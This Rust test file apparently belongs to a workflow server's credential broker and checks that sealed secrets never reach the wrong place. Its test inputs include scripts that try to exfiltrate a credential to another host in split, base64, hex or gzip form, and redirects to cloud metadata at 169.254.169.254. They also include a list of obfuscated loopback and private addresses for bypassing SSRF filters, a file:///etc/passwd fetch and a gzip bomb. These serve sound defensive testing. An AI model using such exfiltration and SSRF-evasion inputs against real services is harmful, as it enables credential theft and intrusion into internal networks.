//! The broker from outside: where a sealed value arrives, where it never does, and what comes back.

mod forms;

use crate::scene::Scene;
use crate::server::{Backend, Server};
use data_encoding::{BASE64, HEXLOWER};
use keyward_testkit::echo::{Echo, Reply};
use serde_json::{Value, json};
use std::net::TcpListener;
use std::time::Duration;

const HERE: &str = "credential_not_allowed_here";

/// A step that must end with a code, after nothing arrived.
#[track_caller]
fn refused(scene: &Scene, source: &str, code: &str, hint: &str) {
    let (step, received) = scene.sent(source);
    let error = &step["error"];
    assert_eq!(error["code"], code, "{source}\n{step}");
    assert!(error["message"].as_str().unwrap().contains(hint), "{source}: {error}");
    assert_eq!(received, None, "nothing leaves: {source}");
}

#[test]
fn a_placeholder_out_of_place_is_refused_and_nothing_leaves() {
    let scene = Scene::start("broker-out-of-place");
    let other = Echo::start();
    scene.api_key("K", &scene.canary("K"));
    let cases: Vec<(&str, &str)> = vec![
        // A13: another host.
        ("await fetch('OTHER/', { headers: { authorization: `Bearer ${K}` } })", "host"),
        ("await fetch('OTHER/?k=' + K)", "host"),
        ("await fetch('OTHER/', { method: 'POST', body: JSON.stringify({ K }) })", "host"),
        ("await fetch('OTHER/', { credential: 'K' })", "host"),
        ("await fetch('https://example.com/', { credential: 'K' })", "host"),
        ("await fetch('http://localhost:PORT/', { credential: 'K' })", "host"),
        // A15: in the URL's authority.
        ("await fetch(`http://${K}@ADDRESS/`)", "credential.basic"),
        ("await fetch(`http://user:${K}@ADDRESS/`)", "credential.basic"),
        ("await fetch(`http://${K}.localhost:PORT/`)", "userinfo_or_host"),
        // A17: cut, in two headers, in two query parameters, in one body.
        (
            "await fetch('HOST/', { headers: { 'x-a': K.slice(0, 22), 'x-b': K.slice(22) } })",
            "placeholder_altered",
        ),
        ("await fetch(`HOST/?a=${K.slice(0, 30)}&b=${K.slice(30)}`)", "placeholder_altered"),
        (
            "await fetch('HOST/', { method: 'POST', body: K.slice(0, 20) + ' ' + K.slice(20) })",
            "placeholder_altered",
        ),
        ("await fetch('HOST/', { headers: { 'x-a': K.slice(5) } })", "placeholder_altered"),
        ("await fetch('HOST/', { headers: { 'x-a': K + K.slice(0, 30) } })", "placeholder_altered"),
        // A19: encoded where it cannot be filled.
        (
            "await fetch('HOST/', { method: 'POST', body: JSON.stringify({ k: btoa(K) }) })",
            "base64",
        ),
        (
            "await fetch('HOST/', { method: 'POST', body: JSON.stringify({ k: btoa('a' + K) }) })",
            "base64",
        ),
        ("await fetch('HOST/', { headers: { 'x-k': btoa(K) } })", "base64"),
        ("await fetch('HOST/?k=' + encodeURIComponent(btoa('user:' + K)))", "base64"),
        (
            "await fetch('HOST/', { headers: { 'x-k': btoa(K).replaceAll('+', '-').replaceAll('/', '_') } })",
            "base64",
        ),
        ("await fetch('HOST/', { method: 'POST', body: hex(K) })", "placeholder_encoded"),
        (
            "await fetch('HOST/', { headers: { 'x-k': hex(K).toUpperCase() } })",
            "placeholder_encoded",
        ),
        ("await fetch('HOST/?k=' + percent(K).replaceAll('%', '%25'))", "placeholder_encoded"),
        ("await fetch('HOST/', { method: 'POST', body: percent(K) })", "placeholder_encoded"),
        (
            "await fetch('HOST/', { method: 'POST', body: JSON.stringify(K).replace('k', '\\\\u006b') })",
            "placeholder_altered",
        ),
        (
            "await fetch('HOST/', { method: 'POST', body: '\"' + escaped(K) + '\"' })",
            "placeholder_encoded",
        ),
        ("await fetch('HOST/', { method: 'POST', body: gzipped(K) })", "placeholder_encoded"),
        (
            "await fetch('HOST/', { method: 'POST', headers: { 'content-encoding': 'gzip' }, body: gzipped(K) })",
            "placeholder_encoded",
        ),
        // Places that are never filled, or only where the binding lists them.
        ("await fetch('HOST/' + K)", "(place)"),
        ("await fetch('HOST/a/' + percent(K) + '/b')", "p"),
        ("await fetch('HOST/', { headers: { cookie: `session=${K}` } })", "(place)"),
        ("await fetch('HOST/', { headers: { [K]: 'x' } })", "header_name"),
        ("await fetch('HOST/#' + K)", "fragment"),
        ("await fetch('HOST/', { method: K })", "method"),
        ("await fetch('HOST/', { headers: { host: K } })", ""),
        ("await fetch('HOST/', { headers: { te: K } })", "connection_header"),
        // An answer in slices would pass the search for an echo.
        ("await fetch('HOST/', { headers: { 'x-k': K, range: 'bytes=0-9' } })", "range"),
    ];
    let prelude = "const K = credential('K'); \
        const codes = (s) => [...s].map((c) => c.charCodeAt(0)); \
        const hex = (s) => codes(s).map((c) => c.toString(16)).join(''); \
        const percent = (s) => codes(s).map((c) => '%' + c.toString(16)).join(''); \
        const escaped = (s) => codes(s).map((c) => '\\\\u00' + c.toString(16)).join(''); \
        const crc = (s) => { let r = -1; for (const b of codes(s)) { r ^= b; for (let i = 0; i < 8; i++) r = r & 1 ? (r >>> 1) ^ 0xedb88320 : r >>> 1; } return ~r >>> 0; }; \
        const le = (n, size) => Array.from({ length: size }, (_, i) => (n >>> (8 * i)) & 255); \
        const gzipped = (s) => new Uint8Array([31, 139, 8, 0, 0, 0, 0, 0, 0, 255, 1, ...le(s.length, 2), ...le(~s.length & 0xffff, 2), ...codes(s), ...le(crc(s), 4), ...le(s.length, 4)]); ";
    for (request, hint) in cases {
        let source = format!("{prelude}{request}; return 'sent';")
            .replace("OTHER", &format!("http://{}", other.address()))
            .replace("ADDRESS", &scene.echo.address().to_string())
            .replace("PORT", &scene.echo.address().port().to_string());
        let code = if request.contains("host: K") { "" } else { HERE };
        if code.is_empty() {
            let (step, received) = scene.sent(&source);
            assert_eq!(step["status"], "failed", "{request}: {step}");
            assert_eq!(received, None);
            continue;
        }
        refused(&scene, &source, code, hint);
    }
    assert!(other.received().is_empty(), "{:?}", other.received());
    let entries = scene.audit("outcome=refused");
    assert!(entries.len() >= 30, "each refusal is in the audit: {}", entries.len());
    assert!(scene.audit("action=credential.used&outcome=allowed").is_empty());
}

#[test]
fn a_placeholder_of_an_earlier_run_is_dead() {
    let scene = Scene::start("broker-earlier-run");
    scene.api_key("K", &scene.canary("K"));
    let keep = "await fetch('HOST/keep', { method: 'POST', body: [...credential('K')].join('.') }); return 1;";
    let (_, received) = scene.sent(keep);
    let old = received.unwrap().text().replace('.', "");
    assert_eq!(old.len(), 45, "{old}");
    let steps = json!([scene.code("s",
        "await fetch('HOST/', { headers: { 'x-k': trigger.body.old, 'x-own': credential('K') } }); return 1;")]);
    let run = scene.run(&steps, &json!({ "old": old }));
    assert_eq!(run["steps"][0]["error"]["code"], HERE, "{run}");
    let undeclaring = json!([scene
        .code("s", "await fetch('HOST/', { headers: { 'x-k': trigger.body.old } }); return 1;")]);
    let run = scene.run(&undeclaring, &json!({ "old": old }));
    assert_eq!(run["steps"][0]["error"]["code"], HERE, "{run}");
    assert_eq!(scene.echo.received().len(), 1);
}

#[test]
fn an_echo_comes_back_sealed_and_works_again() {
    let scene = Scene::start("broker-echo");
    let value = format!("{} \"&<é", scene.canary("K"));
    let token = scene.canary("T");
    scene.api_key("K", &value);
    scene.api_key("T", &token);
    // The service answers headers and body; the script passes on what it was told.
    let source = "const K = credential('K'), T = credential('T'); \
        const r = await fetch('HOST/one', { method: 'POST', headers: { authorization: `Bearer ${T}` }, body: JSON.stringify({ k: K }) }); \
        const echo = await r.json(); \
        const bearer = echo.headers.find(([n]) => n === 'authorization')[1]; \
        const body = JSON.parse(echo.body).k; \
        await fetch('HOST/two', { method: 'POST', headers: { authorization: bearer, 'content-type': 'application/json' }, body: JSON.stringify({ k: body }) }); \
        return { same: bearer === `Bearer ${T}`, body: body === K };";
    assert_eq!(scene.output(source), json!({ "same": true, "body": true }));
    let two = scene.echo.received().swap_remove(1);
    assert_eq!(two.header("authorization"), Some(format!("Bearer {token}").as_str()));
    assert_eq!(serde_json::from_slice::<Value>(&two.body).unwrap()["k"], value.as_str());

    // Wherever the service puts it: a header, a cookie, gzip, any encoding, the status page.
    let encoded = [
        token.clone(),
        token.to_uppercase(),
        BASE64.encode(token.as_bytes()),
        BASE64.encode(format!("x:{token}").as_bytes()),
        HEXLOWER.encode(token.as_bytes()),
        token.bytes().map(|b| format!("%{b:02X}")).collect(),
        token[7..27].to_owned(),
    ];
    for text in encoded {
        let replies = [
            Reply::text(&format!("you sent <{text}>")),
            Reply::gzip(format!("you sent <{text}>")),
            Reply::json(&json!({ "deep": [{ "sent": text }] })),
            Reply::text("see headers")
                .header("X-Echo", &text)
                .header("Set-Cookie", &format!("t={text}; Path=/")),
            Reply::text(&text).with_status(401),
        ];
        for reply in replies {
            scene.next(reply);
            let source = "const r = await fetch('HOST/', { credential: 'T' }); \
                return [...(await r.text()) + JSON.stringify([...r.headers]) + r.statusText + r.url].join(' ');";
            let seen = scene.output(source).as_str().unwrap().replace(' ', "");
            let window = &text[text.len() / 2 - 6..text.len() / 2 + 6];
            assert!(!seen.contains(window), "{text}: {seen}");
        }
    }
}

#[test]
fn redirects_are_new_requests_and_drop_what_was_secret() {
    let scene = Scene::start("broker-redirects");
    let other = Echo::start();
    let token = scene.canary("T");
    scene.api_key("T", &token);
    let bearer = format!("Bearer {token}");
    let away = format!("http://{}/away", other.address());
    let fetch = |what: &str| {
        format!(
            "const T = credential('T'); const r = await fetch('HOST/start', {what}); return [r.status, r.redirected, r.url];"
        )
    };
    // Within the origin everything goes along.
    for status in [301, 302, 303, 307, 308] {
        scene.next(Reply::redirect(status, "/next?x=1"));
        let before = scene.echo.received().len();
        let out = scene.output(&fetch("{ credential: 'T', headers: { 'x-t': T } }"));
        assert_eq!(out, json!([200, true, format!("{}/next?x=1", scene.host())]));
        let next = scene.echo.received().swap_remove(before + 1);
        assert_eq!(
            (next.header("authorization"), next.header("x-t")),
            (Some(bearer.as_str()), Some(token.as_str()))
        );
        assert_eq!(next.target, "/next?x=1");
    }
    // To another origin: header, basic and query are dropped, other headers stay, a body stops.
    for (what, status) in [
        ("{ credential: 'T', headers: { 'x-own': '1', 'x-t': `a ${T}`, cookie: 'c=1' } }", 302),
        ("{ headers: { authorization: 'Basic ' + btoa('u:' + T), 'x-own': '1' } }", 307),
        ("{ method: 'POST', headers: { 'x-own': '1' }, body: JSON.stringify({ T }) }", 303),
        ("{ method: 'POST', headers: { 'x-own': '1' }, body: JSON.stringify({ T }) }", 302),
    ] {
        scene.next(Reply::redirect(status, &away));
        let before = other.received().len();
        let step = scene.script(&fetch(what));
        assert_eq!(step["status"], "succeeded", "{what}: {step}");
        let received = other.received().swap_remove(before);
        assert_eq!(received.header("x-own"), Some("1"), "{what}");
        for name in ["authorization", "x-t", "cookie"] {
            assert_eq!(received.header(name), None, "{what}: {name}");
        }
        assert_eq!((received.method.as_str(), received.body.len()), ("GET", 0), "{what}");
    }
    for status in [307, 308] {
        scene.next(Reply::redirect(status, &away));
        let before = other.received().len();
        let step = scene.script(&fetch("{ method: 'POST', body: JSON.stringify({ T }) }"));
        assert_eq!(step["error"]["code"], HERE, "{step}");
        assert_eq!(other.received().len(), before, "the body stops");
    }
    // A service that writes the value into `Location` tells the script nothing.
    for location in [
        format!("/landed?t={token}"),
        format!("/landed/{token}"),
        format!("/l#{token}"),
        format!("{away}?t={token}"),
        format!("/landed?t={}", BASE64.encode(token.as_bytes())),
    ] {
        scene.next(Reply::redirect(302, &location));
        let step = scene.script("try { const r = await fetch('HOST/start', { credential: 'T' }); return [...r.url].join(' '); } catch (e) { return [...String(e.message)].join(' ') }");
        let seen = step["output"].as_str().unwrap_or_default().replace(' ', "");
        assert!(!seen.contains(&token[10..24]), "{location}: the script sees {seen}");
        assert!(
            !seen.contains(&BASE64.encode(token.as_bytes())[10..24]),
            "{location}: the script sees {seen}"
        );
        scene.next(Reply::redirect(302, &location));
        let source = "const r = await fetch('HOST/start', { credential: 'T', redirect: 'manual' }); return [...r.headers.get('location')].join(' ');";
        let seen = scene.output(source).as_str().unwrap().replace(' ', "");
        assert!(!seen.contains(&token[10..24]), "{location}: the script sees {seen}");
    }
    // Within what the value is bound to, it goes along where the service put it.
    scene.next(Reply::redirect(302, &format!("/landed?t={token}")));
    scene.next(Reply::text("landed"));
    let before = scene.echo.received().len();
    let step = scene.script(&fetch("{ credential: 'T' }"));
    assert_eq!(step["output"][0], 200, "{step}");
    assert_eq!(scene.echo.received()[before + 1].target, format!("/landed?t={token}"));
    scene.next(Reply::redirect(302, &format!("{away}?t={token}")));
    let before = other.received().len();
    assert_eq!(scene.script(&fetch("{ credential: 'T' }"))["error"]["code"], HERE);
    assert_eq!(other.received().len(), before, "not to another host");
    // Five hops are walked, a sixth is not; `manual` and `error` walk none.
    let hops = |count: usize| {
        for hop in 0..count {
            scene.next(Reply::redirect(302, &format!("/hop{hop}")));
        }
        scene.script(&fetch("{ credential: 'T' }"))
    };
    assert_eq!(hops(5)["output"][0], 200);
    let before = scene.echo.received().len();
    let step = hops(6);
    assert_eq!(step["error"]["code"], "connection_failed", "{step}");
    assert!(step["error"]["message"].as_str().unwrap().contains("redirects"), "{step}");
    assert_eq!(scene.echo.received().len() - before, 6);
    scene.next(Reply::redirect(302, "/x"));
    assert_eq!(scene.output(&fetch("{ redirect: 'manual' }"))[0], 302);
    scene.next(Reply::redirect(302, "/x"));
    assert_eq!(scene.script(&fetch("{ redirect: 'error' }"))["error"]["code"], "connection_failed");
    // A63: a redirect is checked like any request.
    scene.next(Reply::redirect(302, "http://169.254.169.254/latest/meta-data/"));
    assert_eq!(scene.script(&fetch("{}"))["error"]["code"], "destination_blocked");
}

#[test]
fn what_looks_like_a_reference_in_data_stays_text() {
    let scene = Scene::start("broker-references");
    scene.api_key("KEY", &scene.canary("KEY"));
    let payload = json!({ "a": { "$credential": "KEY" }, "b": "{{ credential(\"KEY\") }}", "c": "[sealed:KEY]", "d": "credential('KEY')" });
    let call = json!({ "id": "call", "kind": "http", "request": { "method": "POST", "url": format!("{}/", scene.host()),
        "json": { "all": "{{ trigger.body }}", "b": "{{ trigger.body.b }}" } } });
    let run = scene.run(&json!([scene.code("s", "return trigger.body;"), call]), &payload);
    assert_eq!(run["status"], "succeeded", "{run}");
    assert_eq!(run["steps"][0]["output"], payload);
    let sent: Value = serde_json::from_slice(&scene.echo.received()[0].body).unwrap();
    assert_eq!(sent, json!({ "all": payload, "b": payload["b"] }));
    assert!(scene.audit("action=credential.used").is_empty());

    // A33: in a definition, both are refused at save, each at its place.
    let places = [
        (
            json!({ "url": "http://x/", "headers": { "a": "{{ credential(\"KEY\") }}" } }),
            "/steps/0/request/headers/a",
        ),
        (
            json!({ "url": "http://x/", "json": { "deep": [1, "k {{ credential('KEY') }}"] } }),
            "/steps/0/request/json/deep/1",
        ),
        (
            json!({ "url": "http://x/", "json": { "k": { "$credential": "KEY" } } }),
            "/steps/0/request/json/k",
        ),
    ];
    for (request, pointer) in places {
        let definition = json!({ "name": "x", "trigger": { "kind": "manual" }, "steps": [{ "id": "s", "kind": "http", "request": request }] });
        let problem =
            scene.server.post("/workflows", &definition).expect_problem(422, "validation_failed");
        let found = problem["errors"]
            .as_array()
            .unwrap()
            .iter()
            .any(|e| e["pointer"].as_str().unwrap().starts_with(pointer));
        assert!(found, "{problem}");
    }
}

#[test]
fn private_addresses_are_blocked_unless_the_operator_opens_them() {
    let server = Server::start_with("broker-blocked", Backend::Sqlite, &[]);
    let scene = Scene::with(server);
    let port = scene.echo.address().port();
    scene.credential(
        &json!({ "key": "K", "type": "api_key", "fields": { "value": scene.canary("K") } }),
    );
    let hosts = [
        "127.0.0.1", "127.1", "0x7f.1", "2130706433", "0177.0.0.1", "0177.1", "0x7f000001",
        "１２７.0.0.1", "localhost", "LocalHost.", "[::1]", "[::ffff:127.0.0.1]",
        "[::ffff:7f00:1]", "[64:ff9b::7f00:1]", "[2002:7f00:1::]", "0.0.0.0", "[::]", "10.0.0.1",
        "192.168.1.1", "172.16.0.1", "100.64.0.1", "169.254.1.1", "169.254.169.254",
        "[fd00:ec2::254]", "[fe80::1]", "[fc00::1]", "224.0.0.1", "255.255.255.255", "192.0.2.1",
        "198.18.0.1",
    ];
    let urls: Vec<String> = hosts
        .iter()
        .flat_map(|host| [format!("http://{host}:{port}/"), format!("https://{host}:{port}/")])
        .collect();
    let list = serde_json::to_string(&urls).unwrap();
    let source = format!(
        "const out = []; for (const url of {list}) {{ \
        try {{ await fetch(url, {{ credential: 'K' }}); out.push('sent') }} catch (e) {{ out.push(e.code + ' ' + e.message) }} }} return out;"
    );
    let output = scene.output(&source);
    for (url, told) in urls.iter().zip(output.as_array().unwrap()) {
        let told = told.as_str().unwrap();
        assert!(told.starts_with("destination_blocked "), "{url}: {told}");
    }
    // A name's address is not told.
    let told = output.to_string();
    assert!(told.contains("localhost"), "{told}");
    let of_names: Vec<&Value> = output
        .as_array()
        .unwrap()
        .iter()
        .filter(|t| t.as_str().unwrap().contains("localhost"))
        .collect();
    assert!(
        of_names.iter().all(
            |told| !told.to_string().contains("127.0.0.1") && !told.to_string().contains("::1")
        ),
        "{of_names:?}"
    );
    let http = json!([{ "id": "s", "kind": "http", "request": { "url": format!("http://127.0.0.1:{port}/") } }]);
    let run = scene.run(&http, &json!({}));
    assert_eq!(run["steps"][0]["error"]["code"], "destination_blocked", "{run}");
    assert!(scene.echo.received().is_empty());
    // Where the URL itself is an address, nothing was even opened for it.
    for used in scene.audit("action=credential.used&outcome=allowed") {
        assert!(used["destination"].as_str().unwrap().contains("localhost"), "{used}");
    }
}

#[test]
fn an_unbound_credential_goes_where_the_operator_allows_and_its_own_server_is_out_of_reach() {
    let scene = Scene::start("broker-unbound");
    let value = scene.canary("K");
    scene.credential(&json!({ "key": "K", "type": "api_key", "fields": { "value": value } }));
    let (_, received) = scene.sent("await fetch('HOST/', { credential: 'K' }); return 1;");
    assert_eq!(received.unwrap().header("authorization"), Some(format!("Bearer {value}").as_str()));
    let own =
        format!("await fetch('{}/healthz', {{ credential: 'K' }}); return 1;", scene.server.url);
    assert_eq!(scene.script(&own)["error"]["code"], "destination_blocked");
}

#[test]
fn a_bad_service_ends_the_step_with_its_code() {
    let scene = Scene::start("broker-bad-service");
    let closed = TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap();
    let bomb = Reply::gzip(vec![0_u8; 120 << 20]);
    let fetch = "await fetch('HOST/'); return 1;";
    let step = |reply: Reply, timeout: Option<f64>| {
        scene.next(reply);
        let mut step = json!({ "id": "s", "kind": "http", "request": { "url": format!("{}/", scene.host()) } });
        if let Some(seconds) = timeout {
            step["timeout_seconds"] = json!(seconds);
        }
        scene.run(&json!([step]), &json!({}))["steps"][0]["error"]["code"].clone()
    };
    assert_eq!(step(bomb.clone(), None), "output_too_large");
    scene.next(bomb);
    assert_eq!(scene.script(fetch)["error"]["code"], "output_too_large");
    assert_eq!(step(Reply::text(&"x".repeat(11 << 20)), None), "output_too_large");
    assert_eq!(step(Reply::text("late").after(Duration::from_secs(3)), Some(1.0)), "timeout");
    assert_eq!(
        step(Reply::text(&"drip".repeat(50)).dripping(1, Duration::from_millis(50)), Some(1.0)),
        "timeout"
    );
    assert_eq!(step(Reply::text("promised more").cut_after(4), None), "connection_failed");
    assert_eq!(
        step(Reply::text("no gzip").header("Content-Encoding", "gzip"), None),
        "connection_failed"
    );
    let refused = format!("await fetch('http://{closed}/'); return 1;");
    let told = scene.script(&refused)["error"].clone();
    assert_eq!(told["code"], "connection_failed", "{told}");
    for url in
        ["https://no-such-name.invalid/", "ftp://example.com/", "file:///etc/passwd", "http://a b/"]
    {
        let step = scene.script(&format!("await fetch('{url}'); return 1;"));
        assert_eq!(step["status"], "failed", "{url}: {step}");
    }
    // The server is none the worse for it.
    assert_eq!(scene.output("return (await fetch('HOST/')).status;"), 200);
}
